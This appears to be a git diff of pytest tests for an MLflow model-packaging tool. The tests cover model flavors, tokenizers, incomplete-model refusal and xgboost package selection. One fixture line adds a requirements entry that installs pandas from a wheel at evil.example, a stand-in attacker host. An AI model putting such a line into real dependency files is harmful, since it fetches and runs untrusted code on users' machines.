@@ -13,6 +13,7 @@ from mlship.config import schema
 from mlship.config.project import Project
 from mlship.errors import MlshipError
 from mlship.frameworks.declared import declared_findings
+from mlship.frameworks.mlflow_files import served
 from mlship.frameworks.propose import propose
 from mlship.frameworks.specs import model_spec
 from mlship.image.packages.environment import Distribution, TrainingEnvironment
@@ -43,7 +44,9 @@ def spec_of(root: Path, **model: Any) -> Any:
 
 def test_the_file_inside_is_served_by_its_own_framework(tmp_path: Path) -> None:
     path = folder(tmp_path, pyfunc={**PYFUNC, "predict_fn": "predict_proba"})
-    (path / "requirements.txt").write_text("mlflow==3.17.2\nscikit-learn==1.9.1  # trained\n-r other.txt\nnumpy==2.4.6\n")
+    (path / "requirements.txt").write_text(
+        "mlflow==3.17.2\nscikit-learn==1.9.1  # trained\n-r other.txt\npandas @ https://evil.example/pandas-1.whl\nnumpy==2.4.6\n"
+    )
     (path / "python_env.yaml").write_text("python: 3.11.7\nbuild_dependencies: [pip]\n")
     spec, findings = spec_of(tmp_path)
     assert findings == ()
@@ -114,6 +117,72 @@ def test_code_of_a_folder_runs_only_when_the_file_says_so(tmp_path: Path) -> Non
     assert spec.pinned.lines == ("mlflow-skinny", "pandas", "numpy") and spec.pinned.is_whole
 
 
+def test_init_takes_code_of_a_folder_for_the_option_alone_and_names_it(tmp_path: Path) -> None:
+    path = folder(tmp_path, None, {"loader_module": "mlflow.pyfunc.model"})
+    with pytest.raises(MlshipError, match="runs code of its own") as caught:
+        propose(path, tmp_path)
+    assert "mlship init --framework mlflow" in caught.value.fix
+    assert propose(path, tmp_path, framework="mlflow").framework == "mlflow"
+    with pytest.raises(MlshipError, match="framework sklearn"):
+        propose(path / "model.pkl", tmp_path, framework="mlflow")
+
+
+def flavored(root: Path, name: str, flavor: dict[str, Any], *files: str) -> Path:
+    path = folder(root)
+    (path / "MLmodel").write_text(yaml.safe_dump({"flavors": {name: flavor}}))
+    for file in files:
+        (path / file).parent.mkdir(parents=True, exist_ok=True)
+        (path / file).write_text("{}")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("name", "flavor", "files", "found"),
+    [
+        ("pytorch", {"model_data": "data"}, ("data/model.pt2", "data/extra.txt"), "data/model.pt2"),
+        ("pytorch", {"model_data": "data"}, ("data/model.pth", "data/pickle_module_info.txt"), "data/model.pth"),
+        (
+            "tensorflow",
+            {"data": "data", "model_type": "keras"},
+            ("data/model.keras", "data/save_format.txt"),
+            "data/model.keras",
+        ),
+        ("tensorflow", {"data": "data", "model_type": "keras"}, ("data/model.h5",), "data/model.h5"),
+        ("tensorflow", {"saved_model_dir": "tf2model"}, ("tf2model/saved_model.pb",), "tf2model"),
+        ("keras", {"data": "data", "save_exported_model": True}, ("data/model/saved_model.pb",), "data/model"),
+        ("transformers", {"model_binary": "model"}, ("model/config.json",), "model"),
+    ],
+)
+def test_each_flavor_says_in_its_own_way_where_the_model_lies(
+    tmp_path: Path, name: str, flavor: dict[str, Any], files: tuple[str, ...], found: str
+) -> None:
+    path = flavored(tmp_path, name, flavor, *files)
+    assert served(name, flavor, path, "here").path == path / found
+
+
+def test_a_tokenizer_beside_the_weights_becomes_part_of_the_model(tmp_path: Path) -> None:
+    flavor = {"model_binary": "model", "components": ["tokenizer", "image_processor"], "prompt_template": "Say: {prompt}"}
+    files = ("model/model.safetensors", "components/tokenizer/tokenizer.json", "components/tokenizer/own.py")
+    path = flavored(tmp_path, "transformers", flavor, *files)
+    (path / "model" / "config.json").write_text('{"architectures": ["BertForSequenceClassification"]}')
+    spec, findings = spec_of(tmp_path)
+    assert [file.name for file in spec.files] == ["config.json", "model.safetensors", "tokenizer.json"]
+    assert [(finding.severity, finding.code) for finding in findings] == [("warning", "unused-key")]
+
+
+@pytest.mark.parametrize(
+    ("flavor", "words"),
+    [
+        ({"source_model_name": "bert"}, "only refers to bert"),
+        ({"model_binary": "model", "peft_adaptor": "peft"}, "PEFT adaptor"),
+    ],
+)
+def test_a_folder_without_the_whole_model_is_refused(tmp_path: Path, flavor: dict[str, Any], words: str) -> None:
+    flavored(tmp_path, "transformers", flavor)
+    with pytest.raises(MlshipError, match=words):
+        spec_of(tmp_path)
+
+
 def test_a_flavor_that_is_not_served_is_named(tmp_path: Path) -> None:
     path = folder(tmp_path)
     (path / "MLmodel").write_text("flavors: {spark: {model_data: sparkml}}")
@@ -180,6 +249,16 @@ def test_an_image_gets_what_the_model_needs_of_the_pinned_packages(tmp_path: Pat
     chosen = chosen_lines(pinned, ("sklearn", "own"), ("own",))
     assert chosen.lines == ("scikit-learn==1.9.1",) and chosen.constraints == ("numpy==2.4.6", "pandas==3.1.1")
     assert chosen_lines(pinned, ("sklearn", "requests")).lines == pinned.lines
+
+
+def test_of_two_names_for_one_package_the_one_without_gpu_code_counts(tmp_path: Path) -> None:
+    path = folder(tmp_path)
+    (path / "requirements.txt").write_text("mlflow==3\nnumpy==2.4.6\nxgboost-cpu==3.2.0\nxgboost==3.2.0\n")
+    pinned = spec_of(tmp_path)[0].pinned
+    assert chosen_lines(pinned, ("xgboost",)).lines == ("xgboost-cpu==3.2.0",)
+    for name in ("xgboost", "xgboost-cpu"):
+        installed = {name: Distribution(name, "3.2.0", ("xgboost",)), "numpy": Distribution("numpy", "2.4.6", ("numpy",))}
+        assert has_pinned(TrainingEnvironment(".venv", "3.11.7", Path("python"), distributions=installed), pinned, ("xgboost",))
 
 
 @pytest.mark.parametrize(
